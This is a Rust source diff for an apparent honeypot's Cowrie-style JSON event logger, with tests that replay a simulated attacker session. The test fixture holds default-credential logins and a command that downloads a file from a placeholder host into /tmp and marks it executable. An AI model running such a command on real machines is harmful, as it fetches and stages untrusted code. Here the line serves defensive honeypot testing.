@@ -1,0 +1,243 @@
+//! Cowrie-style JSON event log.
+//!
+//! Cowrie emits one JSON object per event (`cowrie.session.connect`,
+//! `cowrie.login.success`, `cowrie.command.input`, …). Operators feed these
+//! into collectors; our farm's collector consumes [`SessionRecord`]s instead,
+//! but the live front-end and the examples still emit this familiar format so
+//! the honeypot is usable as a stand-alone tool with existing log tooling.
+
+use hf_simclock::SimInstant;
+use serde::{Deserialize, Serialize};
+
+use crate::record::SessionRecord;
+
+/// One JSON log event (a faithful subset of Cowrie's schema).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CowrieEvent {
+    /// Event id, e.g. `cowrie.login.success`.
+    pub eventid: String,
+    /// ISO timestamp.
+    pub timestamp: String,
+    /// Session identifier.
+    pub session: String,
+    /// Source IP.
+    pub src_ip: String,
+    /// Free-form human message.
+    pub message: String,
+    /// Username for login events.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub username: Option<String>,
+    /// Password for login events.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub password: Option<String>,
+    /// Command line for command events.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub input: Option<String>,
+    /// SHA-256 for file/download events.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub shasum: Option<String>,
+    /// URL for download events.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub url: Option<String>,
+}
+
+impl CowrieEvent {
+    fn base(eventid: &str, at: SimInstant, session: &str, src_ip: &str, message: String) -> Self {
+        CowrieEvent {
+            eventid: eventid.to_string(),
+            timestamp: at.to_rfc3339(),
+            session: session.to_string(),
+            src_ip: src_ip.to_string(),
+            message,
+            username: None,
+            password: None,
+            input: None,
+            shasum: None,
+            url: None,
+        }
+    }
+}
+
+/// Expands a finished [`SessionRecord`] into the event stream Cowrie would
+/// have logged for it, serialized one-JSON-object-per-line.
+#[derive(Debug, Default, Clone)]
+pub struct EventLog;
+
+impl EventLog {
+    /// Render the event lines for a session.
+    pub fn render(record: &SessionRecord) -> Vec<String> {
+        let sid = format!("s{:08x}", record.start.0 as u32 ^ ((record.honeypot as u32) << 20));
+        let ip = record.client_ip.to_string();
+        let mut events = Vec::new();
+        let mut t = record.start;
+
+        let mut connect = CowrieEvent::base(
+            "cowrie.session.connect",
+            t,
+            &sid,
+            &ip,
+            format!(
+                "New connection: {}:{} ({}) [session: {}]",
+                ip,
+                record.client_port,
+                record.protocol.label(),
+                sid
+            ),
+        );
+        if let Some(v) = &record.ssh_client_version {
+            connect.message.push_str(&format!(" version: {v}"));
+        }
+        events.push(connect);
+
+        for l in &record.logins {
+            t = t.add_secs(1);
+            let eventid = if l.accepted {
+                "cowrie.login.success"
+            } else {
+                "cowrie.login.failed"
+            };
+            let mut e = CowrieEvent::base(
+                eventid,
+                t,
+                &sid,
+                &ip,
+                format!(
+                    "login attempt [{}/{}] {}",
+                    l.creds.username,
+                    l.creds.password,
+                    if l.accepted { "succeeded" } else { "failed" }
+                ),
+            );
+            e.username = Some(l.creds.username.clone());
+            e.password = Some(l.creds.password.clone());
+            events.push(e);
+        }
+
+        for c in &record.commands {
+            t = t.add_secs(1);
+            let eventid = if c.known {
+                "cowrie.command.input"
+            } else {
+                "cowrie.command.failed"
+            };
+            let mut e = CowrieEvent::base(eventid, t, &sid, &ip, format!("CMD: {}", c.input));
+            e.input = Some(c.input.clone());
+            events.push(e);
+        }
+
+        for (i, h) in record.download_hashes.iter().enumerate() {
+            t = t.add_secs(1);
+            let mut e = CowrieEvent::base(
+                "cowrie.session.file_download",
+                t,
+                &sid,
+                &ip,
+                format!("Downloaded file with SHA-256 {h}"),
+            );
+            e.shasum = Some(h.to_hex());
+            e.url = record.uris.get(i).cloned();
+            events.push(e);
+        }
+
+        for h in &record.file_hashes {
+            t = t.add_secs(1);
+            let mut e = CowrieEvent::base(
+                "cowrie.session.file_upload",
+                t,
+                &sid,
+                &ip,
+                format!("file created/modified, SHA-256 {h}"),
+            );
+            e.shasum = Some(h.to_hex());
+            events.push(e);
+        }
+
+        let end = record.end();
+        events.push(CowrieEvent::base(
+            "cowrie.session.closed",
+            end,
+            &sid,
+            &ip,
+            format!(
+                "Connection lost after {} seconds ({:?})",
+                record.duration_secs, record.ended_by
+            ),
+        ));
+
+        events
+            .into_iter()
+            .map(|e| serde_json::to_string(&e).expect("event serializes"))
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::HoneypotConfig;
+    use crate::session::SessionDriver;
+    use hf_geo::Ip4;
+    use hf_proto::creds::Credentials;
+    use hf_proto::Protocol;
+    use hf_shell::SyntheticFetcher;
+
+    fn sample_record() -> SessionRecord {
+        let mut d = SessionDriver::accept(
+            HoneypotConfig::default(),
+            7,
+            Protocol::Ssh,
+            Ip4::new(198, 51, 100, 3),
+            40000,
+            SimInstant::from_day_and_secs(2, 100),
+            Box::new(SyntheticFetcher),
+        );
+        d.client_banner("SSH-2.0-Go");
+        d.offer_credentials(Credentials::new("root", "root"), 1);
+        d.offer_credentials(Credentials::new("root", "1234"), 1);
+        d.run_command("cd /tmp && wget http://h/x && chmod 777 x", 2);
+        d.client_close();
+        d.into_record()
+    }
+
+    #[test]
+    fn event_stream_shape() {
+        let rec = sample_record();
+        let lines = EventLog::render(&rec);
+        let parsed: Vec<CowrieEvent> = lines
+            .iter()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        assert_eq!(parsed.first().unwrap().eventid, "cowrie.session.connect");
+        assert_eq!(parsed.last().unwrap().eventid, "cowrie.session.closed");
+        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.failed"));
+        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.success"));
+        assert!(parsed.iter().any(|e| e.eventid == "cowrie.command.input"));
+        assert!(parsed.iter().any(|e| e.eventid == "cowrie.session.file_download"));
+    }
+
+    #[test]
+    fn login_events_carry_credentials() {
+        let rec = sample_record();
+        let lines = EventLog::render(&rec);
+        let success: CowrieEvent = lines
+            .iter()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .find(|e: &CowrieEvent| e.eventid == "cowrie.login.success")
+            .unwrap();
+        assert_eq!(success.username.as_deref(), Some("root"));
+        assert_eq!(success.password.as_deref(), Some("1234"));
+    }
+
+    #[test]
+    fn download_event_has_hash_and_url() {
+        let rec = sample_record();
+        let lines = EventLog::render(&rec);
+        let dl: CowrieEvent = lines
+            .iter()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .find(|e: &CowrieEvent| e.eventid == "cowrie.session.file_download")
+            .unwrap();
+        assert!(dl.shasum.is_some());
+        assert_eq!(dl.url.as_deref(), Some("http://h/x"));
+    }
+}
